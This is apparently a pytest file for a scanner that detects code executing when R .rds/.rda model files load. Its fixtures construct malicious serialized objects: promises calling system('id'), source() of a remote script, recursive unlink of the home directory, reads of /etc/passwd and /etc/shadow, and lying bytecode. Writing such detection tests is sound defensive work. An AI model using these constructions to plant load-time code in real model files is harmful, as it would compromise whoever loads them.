"""R's files: promises, functions and calls are found in every encoding; models as R writes them pass without a word."""

import base64
import bz2
import gzip
import lzma
import struct
from collections.abc import Iterable
from typing import Literal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.core.facts import Artifact, EmbeddedCode, Reference, Requirement
from garrison.core.limits import Limits
from tests.support import examine_bytes, facts_of, findings_of, worst

NULL, UNBOUND, GLOBAL, EMPTY = (254,), (252,), (253,), (242,)
Part = int | float | str | bytes
Encoding = Literal["xdr", "binary", "ascii"]


def chars(value: str) -> list[Part]:
    return [9 | 64 << 12, len(value), value]


def symbol(name: str) -> list[Part]:
    return [1, *chars(name)]


def strings(*values: str) -> list[Part]:
    return [16, len(values), *(part for value in values for part in chars(value))]


def cells(kind: int, *items: Iterable[Part], tags: Iterable[str] = (), levels: int = 0) -> list[Part]:
    """A call (6) or pairlist (2)."""
    names = [*tags, *[""] * len(items)]
    parts: list[Part] = []
    for position, (item, tag) in enumerate(zip(items, names, strict=False)):
        flags = (kind if position == 0 else 2) | (1024 if tag else 0) | levels << 12
        parts += [flags, *(symbol(tag) if tag else ()), *item]
    return [*parts, *NULL]


def call(name: str, *arguments: Iterable[Part]) -> list[Part]:
    return cells(6, symbol(name), *arguments)


def promise(code: Iterable[Part], value: Iterable[Part] = UNBOUND) -> list[Part]:
    return [5, *value, *code]


def closure(body: Iterable[Part]) -> list[Part]:
    return [3 | 1024, *GLOBAL, *NULL, *body]


def environment(**variables: Iterable[Part]) -> list[Part]:
    return [4, 0, *EMPTY, *cells(2, *variables.values(), tags=variables), *NULL, *NULL]


def vector(*items: Iterable[Part]) -> list[Part]:
    return [19, len(items), *(part for item in items for part in item)]


def integers(*values: int) -> list[Part]:
    return [13, len(values), *values]


def serialised(parts: Iterable[Part], encoding: Encoding = "xdr", version: int = 3) -> bytes:
    """The object as R's `serialize` writes it."""
    order = "<" if encoding == "binary" else ">"
    head: list[Part] = [version, 0x040402, 0x030500, *((5, "UTF-8") if version == 3 else ())]
    out = {"xdr": b"X\n", "binary": b"B\n", "ascii": b"A\n"}[encoding]
    for part in (*head, *parts):
        if encoding == "ascii":
            text = part.encode().replace(b" ", b"\\040").replace(b"\n", b"\\n") if isinstance(part, str) else part
            text = b"\n".join(b"%02x" % byte for byte in part) if isinstance(part, bytes) else text
            out += (text if isinstance(text, bytes) else str(text).encode()) + b"\n"
        elif isinstance(part, str | bytes):
            out += part.encode() if isinstance(part, str) else part
        else:
            out += struct.pack(order + ("d" if isinstance(part, float) else "I"), part)
    return out


def workspace(encoding: Encoding = "xdr", **variables: Iterable[Part]) -> bytes:
    magic = {"xdr": b"RDX3\n", "binary": b"RDB3\n", "ascii": b"RDA3\n"}[encoding]
    return magic + serialised(cells(2, *variables.values(), tags=variables), encoding)


def real(text: str) -> bytes:
    return lzma.decompress(base64.b85decode("".join(text.split())), format=lzma.FORMAT_ALONE)


SYSTEM = call("system", strings("id"))
ENCODINGS: list[Encoding] = ["xdr", "binary", "ascii"]


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("version", [2, 3])
def test_a_promise_is_code_that_runs_on_load(encoding: Encoding, version: int) -> None:
    found = findings_of(serialised(promise(SYSTEM), encoding, version), "model.rds")
    assert [(item.rule, item.severity) for item in found] == [("dangerous-embedded-code", "critical")]
    assert 'system("id")' in found[0].message and "runs commands" in found[0].message
    assert found[0].place.startswith("@ 0x")


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress])
def test_compressed_as_r_reads_it(pack: object) -> None:
    data = pack(serialised(vector(integers(1), promise(SYSTEM))))  # type: ignore[operator]
    assert {(item.rule, str(item.severity)) for item in findings_of(data, "model.rds")} == {
        ("dangerous-embedded-code", "critical")
    }
    assert findings_of(pack(serialised(integers(1, 2))), "model.rds") == []  # type: ignore[operator]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_promise_in_a_workspace(encoding: Encoding) -> None:
    assert worst(findings_of(workspace(encoding, model=promise(SYSTEM)), "model.rda")) == "critical"
    assert findings_of(workspace(encoding, model=integers(1, 2, 3)), "model.rda") == []


@pytest.mark.parametrize(
    "code",
    [
        cells(6, call("::", symbol("base"), symbol("system")), strings("id")),
        call(".Internal", call("system", strings("id"))),
        call("do.call", strings("system"), vector(strings("id"))),
        call("lapply", strings("id"), symbol("system")),
        call("{", call("<-", symbol("f"), symbol("system")), call("f", strings("id"))),
        cells(6, closure(SYSTEM)),
        cells(6, [8, 6, "system"], strings("id")),
        call("eval", call("parse", strings("f"))),
        call("source", strings("https://x.example/a.R")),
        call("unlink", strings("~"), integers(1)),
        call("if", call("file.exists", strings("a")), call("download.file", strings("b"))),
    ],
    ids=["qualified", "internal", "do.call", "lapply", "alias", "closure", "builtin", "eval", "source", "unlink", "if"],
)
def test_ways_to_spell_it(code: list[Part]) -> None:
    assert worst(findings_of(serialised(promise(code)))) == "critical"


def test_a_promise_is_graded_by_what_it_calls() -> None:
    assert worst(findings_of(serialised(promise(call("someones_function"))))) == "high"
    assert worst(findings_of(serialised(promise(call("sqrt", integers(2)))))) == "medium"
    assert findings_of(serialised(promise(SYSTEM, integers(1)))) == []  # forced: never evaluated again


def test_promises_of_arguments_in_environments() -> None:
    """A model fitted inside a function keeps that function's frame, with arguments that nobody has used."""
    frame = environment(control=promise(call("glm.control", integers(1))), data=promise(symbol("d"), integers(1)))
    assert findings_of(serialised(frame)) == []
    assert findings_of(serialised(environment(x=promise(call("their_default"))))) == []
    assert worst(findings_of(serialised(environment(x=promise(SYSTEM))))) == "high"


def test_functions_by_what_they_call() -> None:
    assert findings_of(serialised(closure(call("sqrt", symbol("x"))))) == []
    assert findings_of(serialised(closure(call("eval", call("parse", symbol("x")))))) == []
    found = findings_of(serialised(vector(closure(call("{", SYSTEM)))))
    assert [str(item.severity) for item in found] == ["high"]
    assert "runs when the model is used" in found[0].message
    assert findings_of(serialised(closure(call("lm", symbol("system"))))) == []  # a variable of that name


def test_functions_that_r_calls_by_itself() -> None:
    found = findings_of(workspace(**{".First": closure(call("readLines", strings("/etc/passwd")))}))
    assert worst(found) == "high" and ".First" in found[0].message
    assert findings_of(workspace(helper=closure(call("readLines", strings("a"))))) == []


def test_calls_that_update_and_predict_evaluate() -> None:
    assert findings_of(serialised(vector(call("lm", call("~", symbol("y"), symbol("x")), symbol("d"))))) == []
    assert worst(findings_of(serialised(vector(call("lm", call("~", symbol("y"), SYSTEM)))))) == "high"


def test_active_bindings_are_functions() -> None:
    cell = cells(2, closure(SYSTEM), tags=["x"], levels=1 << 15)
    data = serialised([4, 0, *EMPTY, *cell, *NULL, *NULL])
    assert [fact.form for fact in facts_of(data) if type(fact) is EmbeddedCode] == ["active binding"]
    assert worst(findings_of(data)) == "high"


def test_a_mapped_file_is_a_reference() -> None:
    info = cells(2, symbol("mmap_real"), symbol("base"), integers(14))
    data = serialised([238, *info, *vector(strings("/etc/shadow"), integers(8)), *NULL])
    assert [fact.target for fact in facts_of(data) if type(fact) is Reference] == ["/etc/shadow"]
    assert worst(findings_of(data)) == "high"


def test_packages_that_loading_loads() -> None:
    def namespace(*names: str) -> list[Part]:
        return [249, 0, len(names), *(part for name in names for part in chars(name))]

    facts = facts_of(serialised(vector(namespace("stats", "4.4.2"), namespace("evilpkg", "1.0"))))
    assert [(fact.ecosystem, fact.name, fact.specifier) for fact in facts if type(fact) is Requirement] == [
        ("cran", "evilpkg", "1.0")
    ]


def test_bytecode_that_calls_what_its_source_does_not_say() -> None:
    expression = [6, *NULL, 0, *symbol("sqrt"), 2, *NULL, 0, *integers(4), 0, *NULL]
    honest = [21, 1, *integers(12), 2, *expression, 1, *symbol("sqrt")]
    assert worst(findings_of(serialised(vector(honest)))) == "none"
    lying = [21, 1, *integers(12), 2, *expression, 1, *symbol("system")]
    assert worst(findings_of(serialised(vector(lying)))) == "high"


def test_nested_serialisation_in_a_raw_vector_is_examined() -> None:
    inner = serialised(promise(SYSTEM))
    found = findings_of(serialised(vector([24, len(inner), inner])), "model.rds")
    assert worst(found) == "critical" and "!/raw@" in found[0].subject
    assert worst(findings_of(serialised([24, len(inner), inner], "ascii"))) == "critical"


def test_text_that_spells_code_is_no_code() -> None:
    assert findings_of(serialised(strings("system('id')", "__import__('os').system('id')"))) == []


def test_models_as_r_writes_them() -> None:
    """Written by R 4.2.2: a compiled `ecdf`, and a linear model that keeps the frame of a function."""
    for text in (ECDF, MODEL):
        data = real(text)
        assert findings_of(data, "model.rds") == []
        (examination,) = examine_bytes(data)
        assert examination.formats == ["rds"] and examination.state == "examined"
    facts = facts_of(real(MODEL))
    assert [fact.details["class"] for fact in facts if type(fact) is Artifact] == ["lm"]


def test_a_function_as_r_compiles_it() -> None:
    found = findings_of(real(COMPILED), "model.rds")
    assert [str(item.severity) for item in found] == ["high"] and "system(paste" in found[0].message


def test_what_follows_is_stated() -> None:
    data = serialised(integers(1))
    assert {item.rule for item in findings_of(data + b"more bytes")} == {"trailing-data"}
    assert worst(findings_of(data + serialised(promise(SYSTEM)))) == "critical"


def test_other_bytes_are_no_r() -> None:
    for data in (b"X\nmodel\nglm", b"A\n3\nsome text\n", b"B\n\0\0", b"X\n\0\0\0\x09" + bytes(20), b"RDX2\nX\n"):
        assert not {"rds", "rdata"} & {name for one in examine_bytes(data) for name in one.formats}


def test_what_was_found_before_the_end_broke_off_stays() -> None:
    data = serialised(vector(promise(SYSTEM), strings("x" * 50)))
    assert {"dangerous-embedded-code", "malformed"} == {item.rule for item in findings_of(data[:-20])}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_truncation_at_every_length(encoding: Encoding) -> None:
    data = serialised(vector(environment(a=closure(SYSTEM), b=promise(call("f"))), strings("é", "b c")), encoding)
    for length in range(len(data)):
        for examination in examine_bytes(data[:length]):
            assert "reader failed" not in examination.reason


@settings(max_examples=150, deadline=None)
@given(st.integers(0, 10_000), st.binary(min_size=1, max_size=4), st.booleans())
def test_any_bytes_are_read_or_refused(position: int, noise: bytes, compiled: bool) -> None:
    data = bytearray(real(COMPILED) if compiled else serialised(vector(environment(a=closure(SYSTEM)))))
    at = 14 + position % (len(data) - 14)
    data[at : at + len(noise)] = noise
    for examination in examine_bytes(bytes(data), limits=Limits(seconds=5)):
        assert "reader failed" not in examination.reason


def test_nesting_and_length_are_bounded() -> None:
    deep = serialised([19, 1] * 30_000 + [254])
    assert {item.rule for item in findings_of(deep)} == {"resource-limit"}
    long = serialised([13, 0xFFFFFFFF, 0x7FFF, 0xFFFFFFFF])
    assert {item.rule for item in findings_of(long)} == {"malformed"}


ECDF = """
T>t<81poj4|NsC0{{Sokd>Q$#^c_2%m^FUt(DWfqvqen!W+pMxj*qG(m?7{!LM=o>+%DqrYrK}qgnU2c;zR%ww<bI}VZPTIMm#veaM^`e5unIf
7A(qHuWvnh-dbM62-o{y>-*e#&q|jDM0~+H(=^y33dj|%&sY6#p-
JM=AG#3Wp^oM9^T$UjB4|~IxF9Pa_Z^<}yiEvRg3$F=LIn3A?vcV`qQZA@A0R7|4<!5GSmx`EDG9+cfv3PraloDomyQ+4<7M7>%P}WxiN(AIU$
@ts=X%X~pIW3x93cltS&3)N+gtn+$e%Ig(NbvQc}tC<h)6(Zj>}fha7~MF3K-
smy%5eSidKr3vj4}LB0#7<{+vMWfK3UTcp|eInEgMb8JI)v;#mX4@(W(;m=zU^*iN>K3bVod<;t^Tc6`QI!qT>|PY?M4a5x$$%;t1^sv4R7+X%
$<jF*2%R_0{?HaIcbX;O{}`{nE>%Su1}cF9&i1fC2-6oJn5N2qNSpW{J-
pk%aQ7;rdjTr3>EB2KqwKzIntbwX~PE{Kaq_UX#1uFEVWaKl)}EVTV05lLau$T7Wiy$pAZ5<)FdI!YE)#uO@5iyiB{NZ90>dX%qZzcgpWZBLpS
OIaR%s&*L!<ZF%vWqsG6Iqho*=eV8Cp5Oex=@id_mP?K4+Kqo!nQXGzN85XN`mf)s%-
c?>DAI+#7=c@gf^0Lwi}519ptc=^qP={#7$I7j5+ncBU){a
"""
COMPILED = """
T>t<81poj4|NsC0{{Sokd>Q$#^c_2%m^FUt(DWfqvqen!WgBJ_c&v2r!te$d+H^SKP|M5)^{hzl3mOIT#K9XlyXfBXWnBb%NT+W7`2g*l6tp!u
S|7!0F8_k<_KII092+6fa|{g8^c_NEkK8|cK_BwLJ4l|hq;y|0M40+e_NAG4F*gKnl{(r|J04}6n$5W`u7_8Ju}6g7;>3U0X>1RJ8fOg-
29odB?_lQww*DNVB+BYXdY+}-7J-W#F<NzgnaRvr;6me7ex^~1E|NUrADblTnXie+-^9I6m|P26dGHm0u8m*Nr_Mb8{o(-O
"""
MODEL = """
T>t<81poj4|NsC0{{Sokd>Q$#^c_2%m^FUt(DWfqvqe(Iy_!81B4wY_CQLgamG6Qd(5rrTFnD_^7O@2L4MoqC{+}C8FKxONw{-
57^spV`e_E4x7VMR9jy;~m_t%n6D|oh_70)(=9OE-K=S4^<xj65hdVYeHkL2QEoB8$T7R?%0KFCLSDgHcztn>pC-gOV`@Knjxb11Ro6%q6ex1c
davjPXHQuGA~0b#25m&B_Xx)@8ib7TioPeCM?GGT7PziCqy7c0&)9>C2?HzM&9o<lw<M+mO(c_F+YDV=2e^P&0J$4N-
8M<>0Yg7jv>MoU5t%l?vPt(412F%t`iM3j+FA~BslP9r`<aKMi|?groXy*B;F_>J3SrT!VTU|%h(P{Tb&m6U({LuE=MHGrz-F<ki%2CM<-
R*BQGd3DYu`>3$h3OFv;IGB~(Gs|?Yhz8(o@y=7HO+C~U9M8HpZY;&L`HdU`zKTUi$D~4rX+|owq%2}DCi7mLjT)_%*ImwS(^eAroMzs$%$k>H
`yspLD^(6FjQhGNZhiMIY)kMlL48^a?EhK>jaeNtG5SghaABy0)0QFSz4#uG{}p3F9k|t;c?d{=FiyHJkCNkH83CC9-
Yih1^~Iqp56PdAUN}RcNJG>s2~1fXrh-+#vj5;``$DGBRw#`_P*Qgio~4V^!`TnzlRj%svpIy}##<igcoNY(w^$Z4FBbp4p!dZ9?xroNul-
K0C%*N-chZ#lPpbZtdMO8`af>V9^ySfh9tl3^rxzv9r5}vnSYs3I!x7nyB<xP-H%vdYemFB~hO#=-
d3rylu(co96FzWC7=t@hLyT)J%3q~MOFLYw`kD!1<RYUapjrZ^y4Ex8RpS4U3OEuk7)E5!gO>(G432`wwn4s(;{8+l8b4N@cTeOx`bM0McmP>k
l5}_~7%lKK{TZ7kOpJulE-
9#f3}f>MGpl44*`&4JFH|AzxV<({s2`FK7M8#aSWr?qd{Py$>hmsW?YhVS708_zC8UbF<q*t%CeTQR;dDjNyz_G7o9N*GFjeDNOcXDwAH2o3x(
?tAg-HTpLkO8Kc~9IQ{7u3!ov^GOB3aIg5TGDlarX`4XMFLpiuTSCo0s##4le4N`OkQ_=ued*dhWn@!DPlVF(fDllJuz7)F}oC>c*+ExB}7~lw
tWyyq*3R6D5Yj!0Ol<@v59|&97{%>YfX%NVX35HvdVYtK-f_T^Q9zYU$2N)_>+^NT1xrk*4_cj~WqJI{$0^NvY~!fS(T#Nd`h$lT;@u-
v3Q&3U$m0+z9S5c-VwAKNn?nad4OFN{}gSJIdGL0h!aXF&qr>xmvLW&a9<bB1P~5l!<QCm>%d065DRt@~)DH1bMyD-1pC-
xP+9J!^nmCGoKv5tXZ55`gq(qYT(l%VAQzRHsQ8@Z(h?94DfP2+I0i0ch!s*68nJBcmzcDQviifudMPW=;_w-
DLNQw?!$9Y!S+3cgxFb}KNul?L26Duw^82Sz~T0oQ>UXC%iD8GqhK8U7T3yb!H|CCrZ&}4k$LH6f($wl7VjIv0#ZWr%@hgf+}vy66ITF-ZT00o
7DWEuCXo4eb_QhFTo8x))BI!c@M6)@NM>kVI?CGkYKX43&NFyt7r~3P(LT7Tw}2$lt^9K1R>c&|0K1TdN<e73IHDLk&&+g5=xm%Ul+zVG@0WHa
5?f^+Z(88+!b}jOtTkS&NNFC)ouGQct^(@mx|kLK&+sKiNA_Z&SFC9|zJ>2@)(=(zX#!)|CA&XQPriQ3@*cnmHS>$BO*OC$+eq)D9Ma62i5NJ}
cApYg%z&PA6Mzu)@LiX1C&g*Zsy{4EO+o@tA4cfSktu$Q?F>AS^)srCqw#VO6ioe2sk%wh?}}<)zQvCH4=Tzmx6w`{6Ivp}7hB8-
Rr;JvLtu!y5b6eQ$GSlTWSjD2A{hg@OP^Lo<-_scs3523Il{RH!{(+Uvg4qph$rDS7S#}zSOEB6A>Z%g6CiHZ_E=ba9!xebS0tX(p6a~8w2~@-
yO5#p94M_+47mBW!wVEh&z$k30cI8ajHYA$Ul}2W)A!UcjJ(N9Oq_(|hKO%dtmjzd_J9E>;Z~46?8|#z5Lc{-
KfmL_)BYq*Uy?Y(`69&()0IfU&xR5;Q8K6AH$-u@8Eo^Kvrg-pXa5S;bBkX=h18p5ZoL6RbgD0*Z9-ft()zMFdCDH_c8f8#5@USa#K~-
y^6Yspd-
$~j`Z@6a%(lt^JV=SHE&`;LJ@T$#Cp|f16OCilq?$)8nkKqFp3y5XNS6u|>J~s}1F%<5Utw~WdoIuznn>A99$s$Kj`(v!gHg&z91b_K1cvBYN!
ucBDtl~Y>%2qC>?zF6Nj$Y*K;jnVLsNe>2-
rc^4^l}rVJubUV9vNd13)|W+Pd?^p!J+XPCw%_PX62FCHCJxHzs8iNe2!)@Oh&GEb@H93I@Ts9^Omv0>VS!EP)wbcO+hIYNX`ivauMxmf}xHad
@OWBo$CKUz2ft+CR#0NK$Hwmc(Dt+b0mhO1?k(q>HGDk%$i!T?^U7v`^kUMi18P|C%t7a#UV=JjXA%B9Q|MaED-{F$iSBUoh^gNy1L8-
!13);;7gLPPmF)ClyHzD|Rv6;dG$m_gJS*<zITQ5ku)W!pNL`LLn@Z;;|xC1<<VokwuBKHCz0^Mn$rl@_4VQ?n9Mq;7BxNbAta(y+0eQUs(Or7
?s_=*)y_r3Jj2g=;doyKkb<*&Z&PS-
F~@BjVqav*U9f=(toVk#Si5wMDk!R9|w~UhjQ(IID3r;tDNK1qir3oQQPEI`B8V((H|JQVeZ$T4oxBws(8BPJzk2WLgRVUWUlCy_P4F)cv(<`E
eG4cbf(l*o8XqKQMfCFRA`VL|L2$fuH1#+>Jeo|a|D$9RbFLYSv5YAs=6L?IfPo0+UIB+5+VH|U$nm-0@NbQ{_Pw%+Drr}E4;i1P5p=R-
!_Vo$UoZmis-2^;OvaM2`_)-244=LSICY=A#%(nwW!*#U1^v);x;@nKqb)}Us*I&%~%_lbS2k5cdGvnFjSb=%Y>(-
l9abOTa^A>!DsJrk~z9}VW6aUp95^X?_9O?`kn3IhDIKs50zM4fKN+{y}ao}C=tYlyBNI#VUf$bZqIkp{m-
RSv^~AuQlR|fuVnwjeos(_`a+LkR;MWZ-xfy_p5ZT>o6VgauAlVww@6iLGFa`E7~W}t&LH&cbT<Tt6nlfM1!6mqPGMeCx9+U;i!Qf;F>e#U=f^
2nj#$~eRh|!Wg=fSll{nnA$AD<_&1$OSz>Qq-
K%)dibk1oXEj$ShjHH=P5Ti%JvCgH(Wu(%*HrOV$4cHGZ>pfc})w`0LJuxUksHyph>4p;sUtdTLrmFl+^KzzX)g_^m3<w^*TXGmX-
)T=&tK>XD*?>f1;}%xmzxfuHpl{1<K`)T;?TzK_PqPix5bmF(^I<yB1*TpL>}e()hFZod!fVbI$C!3G`-9SaPSH!lAPgsP?ayykl<I5X-
Q+B8tZme48?<?+r<zQr>sW-6r|F?U(I?Nq=CdEDDkG|L9Qph0gV8x%;|sKRUK16AP8R?1t;mf
"""
